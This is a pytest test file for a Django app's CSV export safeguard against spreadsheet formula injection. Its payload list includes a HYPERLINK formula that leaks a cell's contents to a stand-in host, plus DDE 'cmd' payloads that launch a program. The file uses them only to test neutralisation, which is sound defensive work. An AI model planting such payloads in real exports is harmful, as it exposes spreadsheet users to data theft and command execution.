"""Every CSV Bridgework writes opens in a spreadsheet as data: a cell that would run as a
formula (starting with =, +, -, @, a tab or a carriage return) gets a leading apostrophe,
while plain numbers such as -0.30 stay numbers."""

from __future__ import annotations

import csv
import io
import pathlib
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from bridgework.cohorts.models import Cohort
from bridgework.lib import csvsafe

from .conftest import Cast, client_for

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(payload: str) -> None:
    assert csvsafe.neutralise(payload) == "'" + payload


@pytest.mark.parametrize(
    "cell", ["-0.30", "+0.30", "-5%", "1,234", "-", "0", "Deep curiosity", "fewer than 5", ""]
)
def test_plain_numbers_dashes_and_words_are_left_as_they_are(cell: str) -> None:
    assert csvsafe.neutralise(cell) == cell


@pytest.mark.parametrize("number", [-3, -0.3, Decimal("-1.5"), 7])
def test_numbers_given_as_numbers_stay_numbers(number: object) -> None:
    assert csvsafe.neutralise(number) == number


def test_the_writer_neutralises_every_cell_of_every_row() -> None:
    stream = io.StringIO()
    writer = csvsafe.writer(stream)

    writer.writerow(["=1+1", "-0.30", -2])
    writer.writerows([["@me", "ok"], ["+x"]])

    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [
        ["'=1+1", "-0.30", "-2"],
        ["'@me", "ok"],
        ["'+x"],
    ]


def test_every_csv_writer_in_bridgework_is_the_safe_one() -> None:
    root = pathlib.Path(__file__).resolve().parent.parent / "bridgework"
    unsafe = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "csvsafe.py"
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert unsafe == [], "write CSV through bridgework.lib.csvsafe.writer"


def test_a_cohort_named_like_a_formula_is_text_in_the_insights_csv(cast: Cast) -> None:
    organisation = cast.program_admin.organisation
    assert organisation is not None
    name = '=HYPERLINK("https://evil.example/","Totals")'
    cohort = Cohort.objects.create(
        organisation=organisation, name=name, start_date=timezone.localdate()
    )

    response = client_for(cast.program_admin).get(
        reverse("insights_export"), {"cohort": str(cohort.pk), "period": "3m"}
    )

    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert not [cell for cell in cells if cell.startswith(csvsafe.TRIGGERS) and cell != "-"]
    assert any(name in cell for cell in cells)
